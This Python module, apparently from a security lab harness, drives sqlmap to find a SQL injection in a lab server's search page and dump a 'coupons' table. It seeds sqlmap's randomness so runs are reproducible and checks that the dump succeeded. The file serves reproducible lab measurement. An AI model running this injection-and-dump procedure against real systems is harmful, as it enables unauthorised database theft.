"""sqlmap: finds an injection and dumps a table, with the options that beginners use."""

from __future__ import annotations

import shutil
from pathlib import Path

from probing.lab.errors import LabError
from probing.lab.services.sql_pages import COUPONS, KINDS
from probing.lab.session import Session, program_version

LIMIT_S = 280.0
# sqlmap has no option for a seed, and twins must send the same requests
SEEDED = """
import random, runpy, sys
path, seed = sys.argv[1:3]
sys.argv[:3] = [path]
sys.path.insert(0, path.rpartition("/")[0])
random.seed(seed)
runpy.run_path(path, run_name="__main__")
"""
# without it, connections opened in advance are used in another order each time
OPTIONS = ("--disable-precon", "--batch", "--disable-coloring", "--flush-session", "--threads=1", "--timeout=60",
           "--dbms=mysql", "--technique=BU", "--level=1", "--risk=1", "--dump", "-D", "shop",
           "-T", "coupons")  # fmt: skip


class Sqlmap:
    """sqlmap."""

    programs = ("sqlmap", "python3")

    def perform(self, session: Session) -> None:
        """Do sqlmap-dump."""
        found = session.folder / f"sqlmap-{session.sample}"
        url = f"http://{session.server}/search.php?q={session.rng.choice(KINDS)}"
        session.mark("injection")
        done = session.run(
            "python3", "-c", SEEDED, _script(), f"{session.rng.getrandbits(32)}", "-u", url, "-p", "q",
            f"--output-dir={found}", *OPTIONS, ok=(0, 1), seconds=LIMIT_S, env={"PYTHONHASHSEED": "0"},
        )  # fmt: skip
        tables = list(found.glob("*/dump/shop/coupons.csv"))
        if not tables and b"do not appear to be injectable" not in done.stdout:
            raise LabError(f"sqlmap: {done.stdout.decode(errors='replace').strip()[-400:]}")
        lines = [line for table in tables for line in table.read_text().splitlines() if line]
        session.outcome(len(lines) == COUPONS + 1)
        session.transferred(sum(table.stat().st_size for table in tables))

    def version(self) -> str:
        """The version of the program."""
        return program_version("sqlmap", "--version").split("#")[0]


def _script() -> Path:
    """The path of sqlmap's main file."""
    found = shutil.which("sqlmap")
    if found is None:
        raise LabError("sqlmap is not installed")
    return Path(found).resolve()


SQLMAP = Sqlmap()
